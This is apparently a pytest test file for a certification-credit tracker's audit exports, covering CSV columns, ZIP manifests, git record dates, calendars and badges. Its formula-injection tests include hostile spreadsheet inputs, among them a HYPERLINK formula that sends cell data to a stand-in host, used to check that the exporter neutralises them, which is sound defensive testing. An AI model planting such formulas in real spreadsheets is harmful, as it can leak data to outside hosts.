"""Audit exports: the CSV against summary.json, formula injection, the ZIP
and its manifest, git record dates, the calendar and the badges."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from decimal import Decimal
from xml.etree import ElementTree

import icalendar
import pytest

from recertgen.exports.audit import COLUMNS

SPEC_COLUMNS = ["certification", "cycle_start", "cycle_end", "date", "title", "provider", "credits", "unit", "category",
                "hours", "delivery", "field_of_study", "state", "source", "proof", "proof_sha256", "entry_file", "recorded_at"]


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture
def two_certs(ledger):
    ledger.cert("cissp", "name: CISSP\nprogram: isc2-cissp\ncertified: 2024-03-15\n")
    ledger.cert("cisa", "name: CISA\nprogram: isaca-cisa\ncertified: 2023-06-10\n")
    ledger.write("ledger/proof/2025/talk.pdf", b"%PDF-1.4 talk")
    ledger.write("ledger/proof/2025/course.pdf", b"%PDF-1.4 course")
    ledger.credit("2025/talk", """
        title: "Sécurité des API — 日本語, \\"quoted\\""
        provider: OWASP Paris
        date: 2025-03-14
        minutes: 100
        delivery: webinar
        counts_toward: [cissp, cisa]
        proof: 2025/talk.pdf
        source: linkedin-learning
    """)
    ledger.credit("2025/course", """
        title: Cloud audit course
        provider: ISACA
        date: 2025-06-01
        hours: 8
        counts_toward: {cisa: 8}
        proof: 2025/course.pdf
    """)
    ledger.credit("2026/reading", """
        title: Book
        provider: Wiley
        date: 2026-02-01
        hours: 5
        delivery: reading
        counts_toward: {cissp: {credits: 5, category: group-b}}
        proof: https://example.org/notes
    """)
    return ledger


def build(cli, ledger, out=None):
    args = ["build", ledger.root, "--as-of", "2026-11-15"] + (["--out", out] if out else [])
    result = cli(*args)
    assert result.exit_code == 0, result.output
    return out or ledger.root / "site"


def test_csv_columns_rows_and_totals_match_summary(two_certs, cli):
    site = build(cli, two_certs)
    assert list(COLUMNS) == SPEC_COLUMNS
    raw = (site / "audit.csv").read_bytes()
    assert raw.startswith(b"certification,cycle_start,")  # UTF-8, no byte-order mark
    assert b"\r\n" in raw
    rows = read_csv(site / "audit.csv")
    assert list(rows[0].keys()) == SPEC_COLUMNS
    assert [(r["certification"], r["date"]) for r in rows] == [
        ("cisa", "2025-03-14"), ("cisa", "2025-06-01"), ("cissp", "2025-03-14"), ("cissp", "2026-02-01"),
    ]
    summary = json.loads((site / "summary.json").read_text())
    for cert in summary["certifications"]:
        in_cycle = [r for r in rows if r["certification"] == cert["id"] and r["cycle_start"] == cert["cycle"]["start"]]
        assert sum(Decimal(r["credits"]) for r in in_cycle) == Decimal(str(cert["earned"]))
    talk = rows[0]
    assert talk["title"] == 'Sécurité des API — 日本語, "quoted"'
    assert talk["credits"] == "2.00" and talk["hours"] == "1.67" and talk["unit"] == "CPE"
    assert talk["proof"] == "ledger/proof/2025/talk.pdf"
    assert talk["proof_sha256"] == hashlib.sha256(b"%PDF-1.4 talk").hexdigest()
    assert talk["entry_file"] == "ledger/credits/2025/talk.yaml"
    assert talk["source"] == "linkedin-learning"
    assert talk["recorded_at"] == ""  # not a git repository
    book = rows[3]
    assert (book["category"], book["proof"], book["proof_sha256"]) == ("group-b", "https://example.org/notes", "")


def test_an_entry_after_the_as_of_date_has_a_row_that_names_no_cycle(two_certs, cli):
    """SPEC §2: an entry dated after the as-of date counts nowhere, so its
    row names no cycle (as one outside every cycle), and each cycle's rows
    still add up to summary.json's earned."""
    two_certs.credit("2026/later", "title: Later\nprovider: P\ndate: 2026-11-20\nhours: 3\ncounts_toward: [cissp]\n")
    site = build(cli, two_certs)
    rows = read_csv(site / "audit.csv")
    later = [r for r in rows if r["title"] == "Later"]
    assert [(r["cycle_start"], r["cycle_end"], r["credits"]) for r in later] == [("", "", "3.00")]
    summary = json.loads((site / "summary.json").read_text())
    for cert in summary["certifications"]:
        in_cycle = [r for r in rows if r["certification"] == cert["id"] and r["cycle_start"] == cert["cycle"]["start"]]
        assert sum(Decimal(r["credits"]) for r in in_cycle) == Decimal(str(cert["earned"]))
    result = cli("build", two_certs.root, "--as-of", "2026-11-21", "--out", two_certs.root / "site2")
    assert result.exit_code == 0
    later = [r for r in read_csv(two_certs.root / "site2/audit.csv") if r["title"] == "Later"]
    assert later[0]["cycle_start"] == "2024-03-15"


def test_texas_overlapping_windows_keep_distinct_calendar_ids_and_rows_go_to_the_reported_window(ledger, cli):
    """Texas windows overlap and a new licensee's share a first day: each
    calendar event keeps its own id (RFC 5545), and a row of the audit CSV
    is in the newest window holding its date, the one summary.json reports."""
    ledger.cert("tx", "name: CPA\nprogram: cpa-tx\ncertified: 2020-03-15\n")
    ledger.credit("a", "title: A\nprovider: P\ndate: 2021-06-01\ncounts_toward: {tx: 30}\n")
    ledger.credit("b", "title: B\nprovider: P\ndate: 2023-06-01\ncounts_toward: {tx: 30}\n")
    assert cli("build", ledger.root, "--as-of", "2023-12-01").exit_code == 0
    uids = [line for line in (ledger.root / "site/deadlines.ics").read_text().splitlines() if line.startswith("UID:")]
    assert len(uids) == len(set(uids)) > 3
    cycle = json.loads((ledger.root / "site/summary.json").read_text())["certifications"][0]["cycle"]
    assert cycle == {"start": "2021-03-15", "end": "2024-03-14"}
    rows = {row["date"]: (row["cycle_start"], row["cycle_end"]) for row in read_csv(ledger.root / "site/audit.csv")}
    assert rows == {"2021-06-01": ("2021-03-15", "2024-03-14"), "2023-06-01": ("2021-03-15", "2024-03-14")}


def test_a_texas_windows_calendar_id_stays_as_later_windows_come(ledger, cli):
    ledger.cert("tx", "name: CPA\nprogram: cpa-tx\ncertified: 2020-03-15\n")
    uids = []
    for as_of in ("2021-06-01", "2022-06-01"):
        assert cli("build", ledger.root, "--as-of", as_of).exit_code == 0
        uids.append({line for line in (ledger.root / "site/deadlines.ics").read_text().splitlines() if line.startswith("UID:tx-cycle")})
    assert uids[0] <= uids[1] and "UID:tx-cycle-2021-03-15_2022-03-14@recertgen" in uids[0]
    assert "(0.00 CPE required)" not in (ledger.root / "site/deadlines.ics").read_text()  # the first year owes nothing: no deadline


def test_an_audit_row_goes_with_the_reported_window_among_written_ones(ledger, cli):
    ledger.cert("tx", "name: CPA\nprogram: cpa-tx\ncycles:\n  - {start: 2021-07-01, end: 2024-06-30}\n  - {start: 2022-07-01, end: 2025-06-30}\n")
    ledger.credit("a", "title: A\nprovider: P\ndate: 2023-01-01\ncounts_toward: {tx: 30}\n")
    assert cli("build", ledger.root, "--as-of", "2023-12-01").exit_code == 0
    cycle = json.loads((ledger.root / "site/summary.json").read_text())["certifications"][0]["cycle"]
    (row,) = read_csv(ledger.root / "site/audit.csv")
    assert cycle == {"start": row["cycle_start"], "end": row["cycle_end"]} == {"start": "2021-07-01", "end": "2024-06-30"}


def test_per_certification_csv(two_certs, cli):
    site = build(cli, two_certs)
    rows = read_csv(site / "certifications" / "cisa" / "audit.csv")
    assert {r["certification"] for r in rows} == {"cisa"} and len(rows) == 2


INJECTIONS = {
    "=1+1": "'=1+1",
    "+SUM(A1:A9)": "'+SUM(A1:A9)",
    "-2+3": "'-2+3",
    "@cmd": "'@cmd",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    '=HYPERLINK("http://x.invalid/?"&A1,"x")': '\'=HYPERLINK("http://x.invalid/?"&A1,"x")',
    "a=b": "a=b",
    "Plain title": "Plain title",
}


@pytest.mark.parametrize("title", sorted(INJECTIONS))
def test_formula_cells_are_neutralised(ledger, cli, title):
    ledger.cert("cissp", "name: CISSP\nprogram: isc2-cissp\ncertified: 2024-03-15\n")
    ledger.credit("x", f"title: {json.dumps(title)}\nprovider: {json.dumps(title)}\ndate: 2025-03-14\nhours: 1\ncounts_toward: [cissp]\n")
    site = build(cli, ledger)
    (row,) = read_csv(site / "audit.csv")
    assert row["title"] == INJECTIONS[title]
    assert row["provider"] == INJECTIONS[title]
    assert row["credits"] == "1.00"  # numbers are never touched


def test_export_csv_filters(two_certs, cli, tmp_path):
    everything = cli("export", "csv", two_certs.root, "--as-of", "2026-11-15")
    assert everything.exit_code == 0
    assert len(list(csv.DictReader(io.StringIO(everything.output)))) == 4
    result = cli("export", "csv", two_certs.root, "--cert", "cisa", "--from", "2025-04-01", "--to", "2025-12-31", "--as-of", "2026-11-15")
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert [(r["certification"], r["date"]) for r in rows] == [("cisa", "2025-06-01")]
    external = cli("export", "csv", two_certs.root, "--source", "external", "-o", tmp_path / "ext.csv", "--as-of", "2026-11-15")
    assert external.exit_code == 0
    assert {r["title"] for r in read_csv(tmp_path / "ext.csv")} == {"Cloud audit course", "Book"}
    assert cli("export", "csv", two_certs.root, "--cert", "cism").exit_code == 2


def test_export_refuses_a_ledger_with_errors(two_certs, cli):
    two_certs.credit("bad", "title: x\n")
    assert cli("export", "csv", two_certs.root).exit_code == 1



def test_exports_never_write_into_the_ledger(two_certs, cli):
    """SPEC §4: only add, log and init write into the ledger."""
    credit = next((two_certs.root / "ledger" / "credits").rglob("*.yaml"))
    before = credit.read_bytes()
    for args in (["certificates", "-o", credit], ["csv", "-o", credit], ["csv", "-o", two_certs.root / "ledger" / "new.csv"],
                 ["certificates", "-o", two_certs.root / "templates" / "c.zip"]):
        result = cli("export", args[0], two_certs.root, *args[1:], "--as-of", "2026-11-15")
        assert result.exit_code == 2 and "refusing to write" in result.output, args
    assert credit.read_bytes() == before
    assert not (two_certs.root / "ledger" / "new.csv").exists() and not (two_certs.root / "templates").exists()
    settings = two_certs.write("recertgen.yaml", "title: Mine\n")
    result = cli("export", "csv", two_certs.root, "-o", settings, "--as-of", "2026-11-15")
    assert result.exit_code == 2 and "settings file" in result.output
    assert settings.read_text() == "title: Mine\n"


@pytest.mark.parametrize("kind", ["csv", "certificates"])
def test_an_export_that_cannot_be_written_says_why_and_leaves_nothing(two_certs, cli, tmp_path, kind):
    """A missing folder or a full disk is an unusable call (exit 2) with
    the path and the reason, not a traceback; no half file is left."""
    target = tmp_path / "nodir" / f"x.{'zip' if kind == 'certificates' else 'csv'}"
    result = cli("export", kind, two_certs.root, "-o", target, "--as-of", "2026-11-15")
    assert result.exit_code == 2
    assert result.output == f"recertgen: cannot write {target}: No such file or directory\n"
    assert not target.parent.exists()
    if os.path.exists("/dev/full"):
        result = cli("export", kind, two_certs.root, "-o", "/dev/full", "--as-of", "2026-11-15")
        assert result.exit_code == 2 and result.output == "recertgen: cannot write /dev/full: No space left on device\n"


@pytest.mark.parametrize("kind", ["csv", "certificates"])
def test_an_export_goes_into_a_pipe_through_dev_stdout(two_certs, kind):
    """`-o /dev/stdout | …`: a pipe has no path to write beside; it is written as named."""
    result = subprocess.run([sys.executable, "-m", "recertgen", "export", kind, str(two_certs.root), "-o", "/dev/stdout",
                             "--as-of", "2026-11-15"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, check=False)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith(b"certification,cycle_start" if kind == "csv" else b"PK")


@pytest.mark.parametrize("kind", ["csv", "certificates"])
def test_dash_is_standard_output(two_certs, kind, tmp_path):
    """`-o -` writes to standard output, as most tools do, not to a file named '-'."""
    result = subprocess.run([sys.executable, "-m", "recertgen", "export", kind, str(two_certs.root), "-o", "-",
                             "--as-of", "2026-11-15"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=tmp_path, check=False)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith(b"certification," if kind == "csv" else b"PK")
    assert b"to standard output" in result.stderr and not (tmp_path / "-").exists()


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
@pytest.mark.parametrize("args", [["status"], ["export", "csv"], ["export", "csv", "-o", "-"], ["programs"]])
def test_output_that_cannot_be_written_is_said_not_a_traceback(two_certs, args, tmp_path):
    """`recertgen status > /dev/full`: a message and exit 2, whichever command."""
    with open("/dev/full", "w") as full:
        result = subprocess.run([sys.executable, "-m", "recertgen", *args, *([str(two_certs.root)] if args != ["programs"] else [])],
                                stdout=full, stderr=subprocess.PIPE, text=True, cwd=tmp_path, check=False)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "No space left on device" in result.stderr


def test_a_failed_export_keeps_the_previous_file_and_leaves_no_other(tmp_path, monkeypatch):
    from recertgen.site import output

    previous = tmp_path / "audit.csv"
    previous.write_bytes(b"the previous export")

    def half_then_full(handle):
        handle.write(b"half a")
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError):
        output.write_whole(previous, half_then_full)
    assert previous.read_bytes() == b"the previous export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["audit.csv"]

    real_open = open

    def read_only(path, mode="r", *args, **kwargs):  # as if the file were read-only (root may write anything)
        if "a" in mode:
            raise PermissionError(13, "Permission denied", str(path))
        return real_open(path, mode, *args, **kwargs)

    monkeypatch.setattr(output, "open", read_only, raising=False)
    with pytest.raises(PermissionError):
        output.write_whole(previous, lambda handle: handle.write(b"new"))
    assert previous.read_bytes() == b"the previous export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["audit.csv"]


def test_an_export_through_a_link_writes_its_target_and_keeps_the_link(two_certs, cli, tmp_path):
    (tmp_path / "real.csv").write_text("old")
    os.symlink(tmp_path / "real.csv", tmp_path / "link.csv")
    assert cli("export", "csv", two_certs.root, "-o", tmp_path / "link.csv", "--as-of", "2026-11-15").exit_code == 0
    assert (tmp_path / "link.csv").is_symlink() and (tmp_path / "real.csv").read_text().startswith("certification,")


def test_export_csv_filters_that_can_match_nothing_are_mistakes(two_certs, cli):
    """A source nobody uses, or a range that ends before it starts, would
    export an empty file that looks like "nothing to audit"."""
    result = cli("export", "csv", two_certs.root, "--from", "2025-12-31", "--to", "2025-01-01")
    assert result.exit_code == 2 and "after --to" in result.output
    result = cli("export", "csv", two_certs.root, "--source", "linkedin-lerning", "--as-of", "2026-11-15")
    assert result.exit_code == 2 and "did you mean 'linkedin-learning'" in result.output
    two_certs.write("recertgen.yaml", "sources: {linkedin-learning: LinkedIn Learning}\n")
    by_label = cli("export", "csv", two_certs.root, "--source", "LinkedIn Learning", "--as-of", "2026-11-15")
    by_name = cli("export", "csv", two_certs.root, "--source", "linkedin-learning", "--as-of", "2026-11-15")
    assert by_label.exit_code == 0 and by_label.output == by_name.output and "linkedin-learning" in by_name.output

@pytest.mark.parametrize("option, written, meant", [
    ("--cert", "CISA", "cisa"), ("--source", "EXTERNAL", "external"), ("--source", "LinkedIn-Learning", "linkedin-learning"),
])
def test_a_filter_in_the_wrong_case_gets_a_suggestion(two_certs, cli, option, written, meant):
    result = cli("export", "csv", two_certs.root, option, written, "--as-of", "2026-11-15")
    assert result.exit_code == 2 and f"did you mean '{meant}'?" in result.output


def test_zip_is_byte_identical_and_its_manifest_matches(two_certs, cli, tmp_path):
    one = build(cli, two_certs, tmp_path / "one")
    two = build(cli, two_certs, tmp_path / "two")
    assert (one / "certificates.zip").read_bytes() == (two / "certificates.zip").read_bytes()
    with zipfile.ZipFile(one / "certificates.zip") as archive:
        names = archive.namelist()
        manifest = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode("utf-8"))))
        assert names[0] == "manifest.csv"
        files = [m for m in manifest if m["file"]]
        assert sorted(m["file"] for m in files) == sorted(names[1:])
        for m in files:
            assert hashlib.sha256(archive.read(m["file"])).hexdigest() == m["sha256"] and m["link"] == ""
        # a proof that is a link has no file to archive: the manifest still lists it
        assert [(m["certification"], m["entry"], m["link"]) for m in manifest if not m["file"]] == [
            ("cissp", "reading", "https://example.org/notes")]
        assert all(info.date_time == (1980, 1, 1, 0, 0, 0) for info in archive.infolist())
    assert sorted(names[1:]) == [
        "cisa/2024-01-01_2026-12-31/2025-03-14_talk.pdf",
        "cisa/2024-01-01_2026-12-31/2025-06-01_course.pdf",
        "cissp/2024-03-15_2027-03-14/2025-03-14_talk.pdf",
    ]
    exported = cli("export", "certificates", two_certs.root, "-o", tmp_path / "all.zip", "--as-of", "2026-11-15")
    assert exported.exit_code == 0
    assert (tmp_path / "all.zip").read_bytes() == (one / "certificates.zip").read_bytes(), "the site's ZIP is the export's"


def test_a_changed_proof_link_reaches_the_zip_of_the_next_build(two_certs, cli, tmp_path):
    """The ZIP is kept while its rows are the same: a link's rows are among them."""
    def links(site):
        with zipfile.ZipFile(site / "certificates.zip") as archive:
            return [m["link"] for m in csv.DictReader(io.StringIO(archive.read("manifest.csv").decode("utf-8"))) if m["link"]]

    site = build(cli, two_certs, tmp_path / "site")
    assert links(site) == ["https://example.org/notes"]
    reading = two_certs.root / "ledger/credits/2026/reading.yaml"
    reading.write_text(reading.read_text().replace("https://example.org/notes", "https://example.org/notes-2"))
    assert links(build(cli, two_certs, tmp_path / "site")) == ["https://example.org/notes-2"]


def test_export_certificates_for_one_certification(two_certs, cli, tmp_path):
    result = cli("export", "certificates", two_certs.root, "--cert", "cissp", "-o", tmp_path / "c.zip")
    assert result.exit_code == 0
    with zipfile.ZipFile(tmp_path / "c.zip") as archive:
        assert [n for n in archive.namelist() if n != "manifest.csv"] == ["cissp/2024-03-15_2027-03-14/2025-03-14_talk.pdf"]


def git(root, *args, date=None):
    env = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_SYSTEM": "/dev/null"}
    if date:
        env.update(GIT_AUTHOR_DATE=f"{date}T12:00:00+00:00", GIT_COMMITTER_DATE=f"{date}T12:00:00+00:00")
    subprocess.run(["git", "-c", "user.name=T", "-c", "user.email=t@example.org", *args], cwd=root, env=env, check=True, capture_output=True)


def test_recorded_at_is_the_first_commit_of_each_file(ledger, cli):
    ledger.cert("cissp", "name: CISSP\nprogram: isc2-cissp\ncertified: 2024-03-15\n")
    git(ledger.root, "init", "-q")
    ledger.credit("on-time", "title: On time\nprovider: P\ndate: 2025-01-05\nhours: 1\ncounts_toward: [cissp]\n")
    git(ledger.root, "add", "-A")
    git(ledger.root, "commit", "-qm", "first", date="2025-01-10")
    ledger.credit("late", "title: Late\nprovider: P\ndate: 2025-03-01\nhours: 1\ncounts_toward: [cissp]\n")
    git(ledger.root, "add", "-A")
    git(ledger.root, "commit", "-qm", "second", date="2025-06-01")
    ledger.credit("on-time", "title: On time\nprovider: P\ndate: 2025-01-05\nhours: 2\ncounts_toward: [cissp]\n")
    git(ledger.root, "commit", "-qam", "edit", date="2025-09-09")
    site = build(cli, ledger)
    rows = {r["title"]: r for r in read_csv(site / "audit.csv")}
    assert rows["On time"]["recorded_at"] == "2025-01-10"
    assert rows["Late"]["recorded_at"] == "2025-06-01"
    audit = (site / "audit" / "index.html").read_text()
    assert "recorded 92 days after the activity" in audit
    assert "recorded 5 days after" not in audit
    assert "Documentation debt" in (site / "index.html").read_text()



def test_recorded_at_survives_moving_a_file(ledger, cli):
    """Moving credits into year folders is tidying up, not recording them
    again: SPEC §5's recorded_at is when the entry was first added."""
    ledger.cert("cissp", "name: CISSP\nprogram: isc2-cissp\ncertified: 2024-03-15\n")
    git(ledger.root, "init", "-q")
    ledger.credit("single", "title: Single\nprovider: Q\ndate: 2026-01-05\nhours: 1\ncounts_toward: [cissp]\n")
    git(ledger.root, "add", "-A")
    git(ledger.root, "commit", "-qm", "first", date="2026-01-15")
    (ledger.root / "ledger/credits/2026").mkdir()
    git(ledger.root, "mv", "ledger/credits/single.yaml", "ledger/credits/2026/single.yaml")
    git(ledger.root, "commit", "-qm", "tidy", date="2026-03-20")
    ledger.credit("2026/later", "title: Later\nprovider: Q\ndate: 2026-03-01\nhours: 1\ncounts_toward: [cissp]\n")
    git(ledger.root, "add", "-A")
    git(ledger.root, "commit", "-qm", "later", date="2026-03-21")
    rows = {r["title"]: (r["entry_file"], r["recorded_at"]) for r in read_csv(build(cli, ledger) / "audit.csv")}
    assert rows == {"Single": ("ledger/credits/2026/single.yaml", "2026-01-15"), "Later": ("ledger/credits/2026/later.yaml", "2026-03-21")}


def test_odd_proof_file_names_are_linked_percent_encoded(ledger, cli):
    ledger.cert("cissp", 'name: CISSP "Q"\nprogram: isc2-cissp\ncertified: 2024-03-15\n')
    ledger.write("ledger/proof/2025/vendor#1 (final).txt", "certificate")
    ledger.credit("x", 'title: X\nprovider: Y\ndate: 2025-02-01\nhours: 1\ncounts_toward: [cissp]\nproof: "2025/vendor#1 (final).txt"\n')
    site = build(cli, ledger)
    assert (site / "proof/2025/vendor#1 (final).txt").read_text() == "certificate"
    audit = (site / "audit/index.html").read_text()
    assert 'href="../proof/2025/vendor%231%20%28final%29.txt"' in audit
    import xml.etree.ElementTree as ET

    badge = ET.fromstring((site / "badges/cissp.svg").read_text())  # a name with quotes is still well-formed XML
    assert badge.get("aria-label").startswith('CISSP "Q"')


def test_recorded_at_whatever_the_locale_encoding(ledger, tmp_path):
    """git writes UTF-8; a process whose locale encoding is ASCII (no UTF-8
    mode) must still read it, not fail the build."""
    ledger.cert("cissp", "name: CISSP\nprogram: isc2-cissp\ncertified: 2024-03-15\n")
    git(ledger.root, "init", "-q")
    item = "- title: {0}\n  provider: Société\n  date: 2025-01-0{1}\n  hours: 1\n  counts_toward: [cissp]\n"
    ledger.credit("talks", item.format("Café — sécurité", 5) + item.format("Œuvre", 6))  # a list: git blame reads its lines
    git(ledger.root, "add", "-A")
    git(ledger.root, "commit", "-qm", "first", date="2025-01-10")
    env = {**os.environ, "LC_ALL": "C", "LANG": "C", "PYTHONUTF8": "0", "PYTHONIOENCODING": "utf-8"}
    result = subprocess.run([sys.executable, "-m", "recertgen", "build", str(ledger.root), "--as-of", "2026-11-15",
                             "--out", str(tmp_path / "site")], env=env, capture_output=True, text=True, encoding="utf-8")
    assert result.returncode == 0, result.stdout + result.stderr
    rows = read_csv(tmp_path / "site" / "audit.csv")
    assert [(row["title"], row["recorded_at"]) for row in rows] == [("Café — sécurité", "2025-01-10"), ("Œuvre", "2025-01-10")]


def test_recorded_at_of_an_item_appended_to_a_list_is_its_own_commit(ledger, cli):
    """SPEC §5: the commit that first added the *entry*. An item appended to
    a list file later was recorded then, not when the file was added; an
    item edited later keeps its first date; one not committed has none."""
    ledger.cert("cissp", "name: CISSP\nprogram: isc2-cissp\ncertified: 2024-03-15\n")
    item = "- title: {0}\n  provider: P\n  date: 2025-0{1}-01\n  hours: 1\n  counts_toward: [cissp]\n"
    git(ledger.root, "init", "-q")
    ledger.credit("talks", item.format("First", 1))
    git(ledger.root, "add", "-A")
    git(ledger.root, "commit", "-qm", "first", date="2025-01-05")
    ledger.credit("talks", item.format("First", 1) + item.format("Second", 2))
    git(ledger.root, "commit", "-qam", "second", date="2025-07-07")
    ledger.credit("talks", item.format("First", 1).replace("hours: 1", "hours: 2") + item.format("Second", 2) + item.format("Third", 3))
    site = build(cli, ledger)
    rows = {r["title"]: r["recorded_at"] for r in read_csv(site / "audit.csv")}
    assert rows == {"First": "2025-01-05", "Second": "2025-07-07", "Third": ""}
    exported = cli("export", "csv", ledger.root, "--as-of", "2026-11-15")
    assert {r["title"]: r["recorded_at"] for r in csv.DictReader(io.StringIO(exported.output))} == rows
    assert "recorded 156 days after the activity" in (site / "audit" / "index.html").read_text()

def test_recorded_at_in_a_ledger_below_the_repository_top(tmp_path, cli):
    top = tmp_path / "top"
    root = top / "people" / "dana"
    (root / "ledger" / "certifications").mkdir(parents=True)
    (root / "ledger" / "certifications" / "cissp.yaml").write_text("name: CISSP\nprogram: isc2-cissp\ncertified: 2024-03-15\n")
    (root / "ledger" / "credits").mkdir()
    (root / "ledger" / "credits" / "a.yaml").write_text("title: A\nprovider: P\ndate: 2025-01-05\nhours: 1\ncounts_toward: [cissp]\n")
    git(top, "init", "-q")
    git(top, "add", "-A")
    git(top, "commit", "-qm", "x", date="2025-02-20")
    result = cli("export", "csv", root, "--as-of", "2026-01-01")
    (row,) = list(csv.DictReader(io.StringIO(result.output)))
    assert row["recorded_at"] == "2025-02-20"


def test_deadlines_calendar_parses_and_lists_every_deadline(two_certs, cli):
    site = build(cli, two_certs)
    data = (site / "deadlines.ics").read_bytes()
    assert all(len(line) <= 75 for line in data.split(b"\r\n"))
    calendar = icalendar.Calendar.from_ical(data)
    events = {(str(e["SUMMARY"]), e["DTSTART"].dt) for e in calendar.walk("VEVENT")}
    assert ("CISSP: renewal cycle ends (120.00 CPE required)", dt.date(2027, 3, 14)) in events
    assert ("CISA: renewal cycle ends (120.00 CPE required)", dt.date(2026, 12, 31)) in events
    for year in (2024, 2025, 2026):
        assert ("CISA: annual minimum of 20.00 CPE due", dt.date(year, 12, 31)) in events
    assert len({str(e["UID"]) for e in calendar.walk("VEVENT")}) == len(calendar.walk("VEVENT"))


def test_badges(two_certs, cli):
    site = build(cli, two_certs)
    svg = (site / "badges" / "cissp.svg").read_text()
    root = ElementTree.fromstring(svg)
    texts = [t.text for t in root.iter("{http://www.w3.org/2000/svg}text")]
    assert texts[0] == "CISSP"
    assert texts[1] == "6.50/120 · behind 917d"


def test_proof_coverage_is_shown(two_certs, cli):
    site = build(cli, two_certs)
    assert "2 of 2 entries have proof" in (site / "certifications" / "cisa" / "index.html").read_text()
    assert "2 of 2 entries have proof" in (site / "index.html").read_text()


def test_entry_page_shows_the_proof_digest(two_certs, cli):
    site = build(cli, two_certs)
    page = (site / "credits" / "course" / "index.html").read_text()
    assert hashlib.sha256(b"%PDF-1.4 course").hexdigest() + " (not recorded in the ledger)" in page


TRICKY_CELLS = ["", "plain", "a,b", 'say "hi"', "two\nlines", "cr\rhere", "crlf\r\nend", '",', " lead", "trail ",
                "=1+2", "+x", "-x", "@x", "\tx", "\rx", "a=b", "x-1", "1,=2", "Sécurité — 日本語", "'quoted'", "a;b", "\\back", ",", '"']


@pytest.mark.parametrize("cell", TRICKY_CELLS)
def test_the_csv_encoder_writes_what_the_csv_module_writes(cell):
    """One encoder writes every audit CSV (the site's fast lines and
    `export`'s): the same bytes as the csv module's minimal quoting of the
    neutralised cells, and it reads back to them."""
    from recertgen.exports.audit import csv_line, neutralise

    cells = [cell, "cissp", cell, "12.50", cell + cell]
    expected = io.StringIO()
    csv.writer(expected, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL).writerow([neutralise(c) for c in cells])
    assert csv_line(cells) == expected.getvalue()
    assert next(csv.reader(io.StringIO(csv_line(cells), newline=""))) == [neutralise(c) for c in cells]


def test_the_site_audit_csv_is_what_export_writes(ledger, cli, tmp_path):
    """The site's audit CSV is made from each entry's cells encoded once;
    `export csv` from a row object per row: both the same bytes, tricky
    titles, several certifications and an entry counted twice included."""
    ledger.cert("cissp", "name: CISSP\nprogram: isc2-cissp\ncertified: 2024-03-15\n")
    ledger.cert("cisa", "name: CISA\nprogram: isaca-cisa\ncertified: 2023-06-10\n")
    for number, title in enumerate(TRICKY_CELLS[1:]):
        ledger.credit(f"t{number}", f"title: {json.dumps(title)}\nprovider: {json.dumps(title[::-1])}\ndate: 2025-03-{number + 1:02d}\n"
                      f"hours: {number % 3 + 1}\ncounts_toward: [cissp{', cisa' if number % 2 else ''}]\n")
    site = build(cli, ledger)
    assert cli("export", "csv", ledger.root, "--as-of", "2026-11-15", "-o", tmp_path / "export.csv").exit_code == 0
    assert (site / "audit.csv").read_bytes() == (tmp_path / "export.csv").read_bytes()
    assert len(read_csv(site / "audit.csv")) == len(TRICKY_CELLS[1:]) + len(TRICKY_CELLS[1:]) // 2


def test_an_activity_split_across_areas_is_one_entry_everywhere(ledger, cli, tmp_path):
    """A PMI activity split across Talent Triangle areas: a CSV row per
    part (each with its category), one credits-page row counting the
    activity's whole PDUs once per certification, one proof in the ZIP."""
    ledger.cert("pmp", "name: PMP\nprogram: pmi-pmp\ncertified: 2025-01-10\n")
    ledger.write("ledger/proof/2026/summit.pdf", b"%PDF-1.4 summit")
    ledger.credit("2026/summit", """
        title: PMI Summit
        provider: PMI
        date: 2026-03-01
        hours: 5
        proof: 2026/summit.pdf
        counts_toward:
          - pmp: {credits: 3, category: ways-of-working}
          - pmp: {credits: 2, category: power-skills}
    """)
    site = build(cli, ledger, tmp_path / "site")
    rows = read_csv(site / "audit.csv")
    assert [(r["certification"], r["credits"], r["category"]) for r in rows] == [("pmp", "3.00", "ways-of-working"), ("pmp", "2.00", "power-skills")]
    page = (site / "credits/index.html").read_text()
    row = re.search(r'<tr data-date="2026-03-01"[^>]*>', page).group(0)
    assert 'data-credits="5.00"' in row and row.count("data-credits-pmp=") == 1 and 'data-credits-pmp="5.00"' in row
    with zipfile.ZipFile(site / "certificates.zip") as archive:
        manifest = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode("utf-8"))))
        assert len(archive.namelist()) == 2 and [(m["entry"], m["credits"]) for m in manifest] == [("summit", "5.00")]
